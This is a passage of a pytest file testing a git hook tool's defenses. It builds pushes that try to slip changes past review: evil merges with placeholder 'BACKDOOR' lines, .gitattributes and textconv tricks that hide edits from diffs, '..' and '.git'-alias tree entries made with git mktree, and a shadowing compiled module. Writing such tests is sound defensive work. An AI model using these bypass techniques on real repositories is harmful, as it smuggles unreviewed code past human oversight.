    work.git("fetch", "-q", "origin")


def _cheap_conflicting_merges(work: Repo, merges: int, files: int) -> None:
    """feature-many: `merges` merges, each of a fresh side commit conflicting in `files` files, resolved to ours."""
    work.git("switch", "-q", "-c", "feature-many", "dev")
    base = commit(work, "feat: modules", {f"model/m{i}.py": "M = 0\n" for i in range(files)})
    commit(work, "feat: ours", {f"model/m{i}.py": "M = 'ours'\n" for i in range(files)})
    work.git("switch", "-q", "-c", "side", base)
    side = commit(work, "feat: theirs", {f"model/m{i}.py": "M = 'theirs'\n" for i in range(files)})
    work.git("switch", "-q", "feature-many")
    side_tree = work.git("rev-parse", f"{side}^{{tree}}").stdout.strip()
    for n in range(merges):
        fresh = work.git("commit-tree", side_tree, "-p", base, "-m", f"feat: theirs {n}").stdout.strip()
        made = work.git("commit-tree", "HEAD^{tree}", "-p", "HEAD", "-p", fresh, "-m", f"Merge branch 'side-{n}'").stdout.strip()
        work.git("reset", "-q", "--soft", made)
    work.git("branch", "-q", "-D", "side")


def test_push_recomputing_more_merge_paths_than_the_limit_is_refused_with_exit_2(server: Repo, work: Repo) -> None:
    _server_limit(server, work, 30)
    _cheap_conflicting_merges(work, merges=3, files=20)
    proc = push(work, "feature-many")
    assert proc.returncode != 0 and "limits.max_merge_paths" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert ref_on(server, "refs/heads/feature-many") is None
    server.git("fetch", "-q", str(work.path), "feature-many:refs/objects-only")  # the objects, to run the hook by hand
    server.git("update-ref", "-d", "refs/objects-only")
    line = f"{'0' * 40} {work.head('feature-many')} refs/heads/feature-many\n"
    hook = server.dlgit("hook", "pre-receive", input=line)
    assert hook.returncode == 2 and "limits.max_merge_paths" in hook.stderr, hook.stderr


def test_push_recomputing_merges_within_the_limit_passes(server: Repo, work: Repo) -> None:
    _server_limit(server, work, 30)
    _cheap_conflicting_merges(work, merges=1, files=20)
    accepted(push(work, "feature-many"))


def _many_refs_stdin(server: Repo, work: Repo, name: str, refs: int) -> str:
    """`refs` new feature branches off dev with an annotated tag on each tip, their objects put on the
    server without any ref: the pre-receive stdin of pushing them all at once."""
    lines = []
    for i in range(refs):
        work.git("switch", "-q", "-c", f"feature-{name}{i}", "dev")
        tip = commit(work, f"feat: {name}{i}", {f"model/{name}{i}.py": f"M = {i}\n"})
        work.git("tag", "-a", "-m", f"mark {i}", f"{name}-{i}")
        lines += [f"{'0' * 40} {tip} refs/heads/feature-{name}{i}", f"{'0' * 40} {work.head(f'{name}-{i}')} refs/tags/{name}-{i}"]
    server.git("fetch", "-q", str(work.path), f"refs/tags/{name}-*:refs/objects-only/{name}-*")
    for ref in server.git("for-each-ref", "--format=%(refname)", "refs/objects-only").stdout.split():
        server.git("update-ref", "-d", ref)
    return "\n".join(lines) + "\n"


def test_pushing_many_branches_and_tags_starts_as_many_git_processes_as_a_few(server: Repo, work: Repo, tmp_path: Path) -> None:
    """One read of the tips, one peel, one reachability walk, one gather, one sizing of the tag objects:
    the git processes pre-receive starts do not grow with the number of refs."""
    started = {}
    for name, refs in (("first", 1), ("few", 2), ("many", 8)):  # the first run also pins the server's settings
        trace = tmp_path / f"trace-{name}"
        hook = server.dlgit("hook", "pre-receive", input=_many_refs_stdin(server, work, name, refs), env={"GIT_TRACE": str(trace)})
        assert hook.returncode == 0, hook.stderr
        started[refs] = trace.read_text().count("trace: built-in: git ")
    assert started[2] == started[8], started


def test_a_huge_tag_on_a_commit_no_branch_holds_is_refused(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", "side", "dev")
    commit(work, "feat: loose", {"model/loose.py": "L = 1\n"})
    story = work.path.parent / "story.txt"
    story.write_text("notes\n\n" + "word " * (300 * 1024 // 5))
    work.git("tag", "-a", "loose", "-F", str(story))
    proc = push(work, "refs/tags/loose")
    assert proc.returncode == 1 and "release-tag" in proc.stderr and "at most 262,144" in proc.stderr, proc.stderr
    assert ref_on(server, "refs/tags/loose") is None


def test_task_core_edited_in_a_merge_then_put_back_cannot_reach_main(server: Repo, work: Repo, check: Check) -> None:
    """The round-2 reproducer whole: the evil merge, results on that core, a second merge of main that
    puts the core back, the task merged into main (the task branch itself never pushed)."""
    _task_behind_a_hotfix(work)
    work.git("merge", "-q", "--no-ff", "--no-commit", "main")
    work.write("model/net.py", "NET = 'tuned for this run'\n")
    work.git("add", "-A")
    work.git("commit", "-q", "--no-verify", "-m", "Merge branch 'main' into " + NEW_TASK)
    commit(work, "task: results on the tuned core", {f"tasks/{NEW_TASK}/log.txt": "loss 0.01\n"})
    released = work.git("show", "main:model/net.py").stdout
    work.git("switch", "-q", "-c", "hotfix-two", "main")  # main moves on, so the second merge of main is a real one
    commit(work, "fix: two", {"model/two.py": "TWO = 2\n"})
    work.git("switch", "-q", "main")
    merge(work, "hotfix-two", "fix: merge hotfix-two")
    work.git("switch", "-q", NEW_TASK)
    work.git("merge", "-q", "--no-ff", "--no-commit", "main")
    work.write("model/net.py", released)
    work.git("add", "-A")
    work.git("commit", "-q", "--no-verify", "-m", "Merge branch 'main' into " + NEW_TASK)
    assert work.git("rev-parse", "HEAD^2").stdout.strip() == work.head("main")
    work.git("switch", "-q", "main")
    merge(work, NEW_TASK, f"task: merge {NEW_TASK}")
    work.git("branch", "-q", "-D", NEW_TASK)
    work.git("push", "-q", "--no-verify", "origin", f":{NEW_TASK}")
    before = server.head("main")
    guards = Guards()
    guards.push(push(work, "main", "hotfix-two"), "task-scope", "model/net.py")
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), "task-scope", "model/net.py")
    guards.verify()


# --- issue 16 item 2: hotfix-size counts bytes, binaries, renames; attributes are never read --------


def _ship_hotfix(server: Repo, work: Repo, check: Check, name: str, rule: Rule | None, *items: Item) -> None:
    """Commit what is staged on hotfix branch `name` (client hooks asked), merge it into main without
    hooks and push both: refused everywhere with `rule`, or (rule None) accepted everywhere."""
    before = server.head("main")
    install_hooks(work)
    hook = commit_with_hooks(work, f"fix: {name.removeprefix('hotfix-')}")
    work.git("switch", "-q", "main")
    merge(work, name, f"fix: merge {name}")
    pushed = push(work, "main", name)
    if rule is None:
        assert hook.returncode == 0, hook.stderr
        accepted(pushed)
        assert check(work)[0] == 0
        return
    guards = Guards()
    guards.hook(hook, rule, *items)
    guards.push(pushed, rule, *items)
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), rule, *items)
    guards.verify()


def test_hotfix_adding_a_compiled_module_is_refused(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "hotfix-speed", "main")
    sparse(work, "model/net.cpython-311-x86_64-linux-gnu.so", 4_000_000)  # Python imports it instead of net.py
    work.git("add", "-A")
    _ship_hotfix(server, work, check, "hotfix-speed", "hotfix-size", "net.cpython-311-x86_64-linux-gnu.so", "bytes")


def test_hotfix_adding_five_blobs_under_the_large_file_limit_is_refused(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "hotfix-tables", "main")
    for i in range(5):
        sparse(work, f"model/table{i}.dat", int(4.9 * MIB))
    work.git("add", "-A")
    _ship_hotfix(server, work, check, "hotfix-tables", "hotfix-size", "model/table0.dat", "bytes")


def test_hotfix_with_a_small_binary_and_a_one_line_fix_passes(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "hotfix-icon", "main")
    (work.path / "model/icon.bin.dat").write_bytes(bytes(range(256)) * 8)  # 2 KiB
    work.write("model/net.py", "NET = 3  # fixed\n")
    work.git("add", "-A")
    _ship_hotfix(server, work, check, "hotfix-icon", None)


def test_hotfix_hiding_a_rewrite_behind_gitattributes_is_refused(server: Repo, work: Repo, check: Check) -> None:
    """`*.py -diff` made numstat count the rewrite as a binary of 0 lines; in a clone `dlgit check`
    read the work tree's .gitattributes."""
    work.git("switch", "-q", "-c", "hotfix-attrs", "main")
    work.write(".gitattributes", "*.py -diff\n")
    work.write("model/net.py", "".join(f"NET_{i} = {i}\n" for i in range(500)))
    work.git("add", "-A")
    _ship_hotfix(server, work, check, "hotfix-attrs", "hotfix-size", "model/net.py")


def test_hotfix_with_gitattributes_and_a_one_line_fix_passes(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "hotfix-attrs", "main")
    work.write(".gitattributes", "*.py -diff\n")
    work.write("model/net.py", "NET = 3  # fixed\n")
    work.git("add", "-A")
    _ship_hotfix(server, work, check, "hotfix-attrs", None)


# the attributes a work tree or a judged commit could carry to change how git merges or diffs
ATTRIBUTES = {"merge-binary": "*.py merge=binary\n", "no-diff": "*.py -diff\n", "textconv": "*.py diff=x\n", "union": "*.py merge=union\n"}
_CONTEXT = "".join(f"C_{i} = {i}\n" for i in range(8))


def _merge_into_dev_with_attributes(work: Repo, attributes: str, same_line: bool, recorded: str | None) -> None:
    """On dev, with `.gitattributes` committed (judged content, checked out in the work tree) and a
    textconv for `diff=x` configured here: a feature and dev edit model/attr.py (apart, or on the same
    line), and the merge of the feature records `recorded` as model/attr.py (None: git's own merge)."""
    work.git("config", "diff.x.textconv", "sed s/BACKDOOR.*//")
    work.git("switch", "-q", "dev")
    commit(work, "feat: attributes", {".gitattributes": attributes, "model/attr.py": f"TOP = 0\n{_CONTEXT}END = 0\n"})
    work.git("switch", "-q", "-c", "feature-attr")
    commit(work, "feat: top", {"model/attr.py": f"TOP = 1\n{_CONTEXT}END = 0\n"})
    work.git("switch", "-q", "dev")
    commit(work, "feat: end", {"model/attr.py": f"TOP = {2 if same_line else 0}\n{_CONTEXT}END = {0 if same_line else 2}\n"})
    work.git("merge", "-q", "--no-ff", "--no-commit", "--no-verify", "feature-attr", check=False)
    work.write("model/attr.py", recorded if recorded is not None else f"TOP = 1\n{_CONTEXT}END = 2\n")
    work.git("add", "-A")
    work.git("commit", "-q", "--no-verify", "-m", "Merge branch 'feature-attr' into dev")


def _judged_everywhere(server: Repo, work: Repo, check: Check, rule: Rule | None, *items: Item) -> None:
    """pre-push (dlgit's own hook in the clone), `dlgit check` there, and the server's pre-receive."""
    guards = Guards()
    before = server.head("dev")
    guards.check(check(work), rule, *items) if rule else guards.expect("check", check(work)[0], "", None, exit_code=0)
    install_hooks(work)
    pushed = work.git("push", "origin", "dev", "feature-attr", check=False)
    guards.expect("pre-push", pushed.returncode, pushed.stderr, rule, *items, exit_code=1 if rule else 0)
    if rule:
        guards.push(push(work, "dev", "feature-attr"), rule, *items)
        guards.unchanged(server, "refs/heads/dev", before)
    guards.verify()


@pytest.mark.parametrize("attributes", list(ATTRIBUTES.values()), ids=list(ATTRIBUTES))
def test_evil_merge_behind_gitattributes_is_refused_in_a_clone_as_on_the_server(server: Repo, work: Repo, check: Check,
                                                                                 attributes: str) -> None:
    """The merge adds a line where git merges cleanly; `merge=binary` made git's merge a conflict (whose
    resolution may hold anything on dev), `-diff` or a textconv would hide the line from the diff."""
    _merge_into_dev_with_attributes(work, attributes, same_line=False, recorded=f"TOP = 1\n{_CONTEXT}BACKDOOR = 1\nEND = 2\n")
    _judged_everywhere(server, work, check, "merge-direction", "model/attr.py")


@pytest.mark.parametrize("attributes", list(ATTRIBUTES.values()), ids=list(ATTRIBUTES))
def test_honest_merges_beside_gitattributes_pass_in_a_clone_as_on_the_server(server: Repo, work: Repo, check: Check,
                                                                             attributes: str) -> None:
    """git's own merge, and a conflict on one line resolved to one side (`merge=union` would have
    merged it cleanly, keeping both lines, and turned the resolution into an evil merge)."""
    _merge_into_dev_with_attributes(work, attributes, same_line=False, recorded=None)
    work.git("switch", "-q", "-c", "feature-attr-2", "dev")
    commit(work, "feat: top again", {"model/attr.py": f"TOP = 3\n{_CONTEXT}END = 2\n"})
    work.git("switch", "-q", "dev")
    commit(work, "feat: top here", {"model/attr.py": f"TOP = 4\n{_CONTEXT}END = 2\n"})
    work.git("merge", "-q", "--no-ff", "--no-commit", "--no-verify", "feature-attr-2", check=False)
    work.write("model/attr.py", f"TOP = 3\n{_CONTEXT}END = 2\n")
    work.git("add", "-A")
    work.git("commit", "-q", "--no-verify", "-m", "Merge branch 'feature-attr-2' into dev")
    _judged_everywhere(server, work, check, None)
    accepted(push(work, "dev", "feature-attr", "feature-attr-2"))


def _release_a_big_module(server: Repo, work: Repo) -> None:
    """A 1,000-line module released onto main the honest way."""
    work.git("switch", "-q", "dev")
    commit(work, "feat: a big module", {"model/big.py": "".join(f"B_{i} = {i}\n" for i in range(1000))})
    squash_release(work)
    bump(work, "0.3.0")
    accepted(push(work, "main", "dev"))


def test_hotfix_renaming_a_big_module_with_an_edit_is_refused(server: Repo, work: Repo, check: Check) -> None:
    _release_a_big_module(server, work)
    work.git("switch", "-q", "-c", "hotfix-move", "main")
    work.git("mv", "model/big.py", "model/huge.py")
    text = (work.path / "model/huge.py").read_text()
    work.write("model/huge.py", text.replace("B_7 = 7\n", "B_7 = 'backdoor'\n"))
    work.git("add", "-A")
    _ship_hotfix(server, work, check, "hotfix-move", "hotfix-size", ("model/huge.py", "model/big.py"))


def test_hotfix_renaming_a_big_module_unchanged_passes(server: Repo, work: Repo, check: Check) -> None:
    _release_a_big_module(server, work)
    work.git("switch", "-q", "-c", "hotfix-move", "main")
    work.git("mv", "model/big.py", "model/huge.py")
    _ship_hotfix(server, work, check, "hotfix-move", None)


def test_hotfix_finish_refuses_a_compiled_module(work: Repo) -> None:
    """The flow's own check is the hook's rule."""
    work.git("switch", "-q", "-c", "hotfix-speed", "main")
    sparse(work, "model/net.cpython-311-x86_64-linux-gnu.so", 4_000_000)
    commit(work, "fix: speed")
    work.git("switch", "-q", "main")
    proc = dlgit_bytes(work.path, "hotfix", "finish", "hotfix-speed")
    assert proc.returncode == 1 and b"hotfix-size" in proc.stderr and b"bytes" in proc.stderr, proc.stderr
    assert work.head("main") == work.head("origin/main")


# --- issue 16 item 5: paths as git's fsck judges them -----------------------------------------------


def _tree(work: Repo, *entries: str) -> str:
    return work.git("mktree", input="".join(f"{entry}\n" for entry in entries)).stdout.strip()


@pytest.mark.parametrize("alias", ["..", ".GIT", ".git.", "git~1", ".g\u200cit"])
def test_task_commit_with_a_dot_dot_or_dot_git_tree_entry_is_refused(server: Repo, work: Repo, check: Check, alias: str) -> None:
    """`git mktree` writes any name: `tasks/<task>/../../model/net.py` starts with the task folder as a string."""
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    blob = work.git("hash-object", "-w", "--stdin", input="BACKDOOR = 1\n").stdout.strip()
    model = _tree(work, f"100644 blob {blob}\tnet.py")
    escape = _tree(work, f"040000 tree {_tree(work, f'040000 tree {model}' + chr(9) + 'model')}\t..") if alias == ".." else model
    task = work.git("rev-parse", f"HEAD:tasks/{NEW_TASK}").stdout.strip()
    listed = work.git("ls-tree", task).stdout.strip()
    task_tree = _tree(work, listed, f"040000 tree {escape}\t{alias}")
    tasks = _tree(work, *work.git("ls-tree", "HEAD:tasks").stdout.strip().replace(f"{task}\t{NEW_TASK}", f"{task_tree}\t{NEW_TASK}")
                  .splitlines())
    root = _tree(work, *work.git("ls-tree", "HEAD").stdout.strip().replace(work.git("rev-parse", "HEAD:tasks").stdout.strip(), tasks)
                 .splitlines())
    sha = work.git("commit-tree", root, "-p", "HEAD", "-m", "task: results").stdout.strip()
    work.git("update-ref", f"refs/heads/{NEW_TASK}", sha)
    guards = Guards()
    shown = (alias, "HFS+")  # a zero-width character is printed escaped
    guards.push(push(work, NEW_TASK), "path-names", shown)
    guards.unchanged(server, f"refs/heads/{NEW_TASK}", None)
    guards.check(check(work, "--branch", NEW_TASK, f"main..{NEW_TASK}"), "path-names", shown)
    guards.verify()


def test_task_commit_with_dotted_names_git_accepts_passes(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0"), f"tasks/{NEW_TASK}/.gitignore": "*.pt\n",
                                       f"tasks/{NEW_TASK}/..notes/a.txt": "x\n", f"tasks/{NEW_TASK}/.github.txt": "x\n"})
    accepted(push(work, NEW_TASK))
    assert check(work, "--branch", NEW_TASK, f"main..{NEW_TASK}")[0] == 0


# --- issue 16 item 7: a VERSION bump is that value and nothing else ---------------------------------


@pytest.mark.parametrize("trick", ["exec-bit", "u2028", "huge"])
def test_bump_carrying_more_than_the_next_version_is_refused(server: Repo, work: Repo, check: Check, trick: str) -> None:
    before = server.head("main")
    path = work.path / "tasks/main/config.yaml"
    text = path.read_text()
    new = "99999999999999999999.0.0" if trick == "huge" else "0.3.0"
    text = text.replace("VERSION: 0.2.0", f"VERSION: {new}")
    if trick == "u2028":
        text = text.replace("\nDEBUG", "\u2028DEBUG", 1)
    path.write_text(text)
    if trick == "exec-bit":
        path.chmod(0o755)
    commit(work, f"bump: version 0.2.0 → {new}")
    guards = Guards()
    guards.push(push(work, "main"), "main-protected", "tasks/main/config.yaml")
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), "main-protected", "tasks/main/config.yaml")
    guards.verify()


def test_bump_to_the_next_version_passes(server: Repo, work: Repo, check: Check) -> None:
    bump(work, "1.0.0")
    accepted(push(work, "main"))
    assert check(work)[0] == 0


# --- issue 16 item 7: messages are never megabytes ------------------------------------------------------


def test_commit_and_tag_messages_of_20_mb_are_refused(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "-c", "feature-story", "dev")
    story = work.path.parent / "story.txt"
    story.write_text("feat: a long story\n\n" + ("word " * 15 + "\n") * (20 * MIB // 76))
    work.git("commit", "-q", "--no-verify", "--allow-empty", "-F", str(story))
    guards = Guards()
    guards.push(push(work, "feature-story"), "commit-message", "at most 262,144")
    guards.unchanged(server, "refs/heads/feature-story", None)
    guards.check(check(work), "commit-message", "at most 262,144")
    work.git("tag", "-a", "notes", "-F", str(story), "main")
    guards.push(push(work, "refs/tags/notes"), "release-tag", "at most 262,144")
    guards.unchanged(server, "refs/tags/notes", None)
    guards.verify()


def test_a_release_tag_of_300_kib_is_refused_by_check_as_by_the_server(server: Repo, work: Repo, check: Check) -> None:
    """`dlgit check` judges the release tags pointing into its range: their size too."""
    bump(work, "0.3.0")
    story = work.path.parent / "story.txt"
    story.write_text("release 0.3.0\n\n" + "word " * (300 * 1024 // 5))
    work.git("tag", "-a", "-F", str(story), "v0.3.0")
    guards = Guards()
    guards.check(check(work), "release-tag", "at most 262,144")
    guards.push(work.git("push", "--no-verify", "--atomic", "origin", "main", "refs/tags/v0.3.0", check=False), "release-tag",
                "at most 262,144")
    guards.unchanged(server, "refs/tags/v0.3.0", None)
    guards.verify()
    work.git("tag", "-f", "-a", "-m", "release 0.3.0\n\n" + "word " * 2000, "v0.3.0")
    assert check(work)[0] == 0
    accepted(work.git("push", "--no-verify", "--atomic", "origin", "main", "refs/tags/v0.3.0", check=False))


def test_commit_and_tag_messages_of_ordinary_length_pass(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", "feature-story", "dev")
    commit(work, "feat: a story\n\n" + "word " * 2000, {"model/story.py": "STORY = 1\n"})
    accepted(push(work, "feature-story"))
    work.git("tag", "-a", "notes", "-m", "notes on the release\n\n" + "word " * 2000, "main")
    accepted(push(work, "refs/tags/notes"))
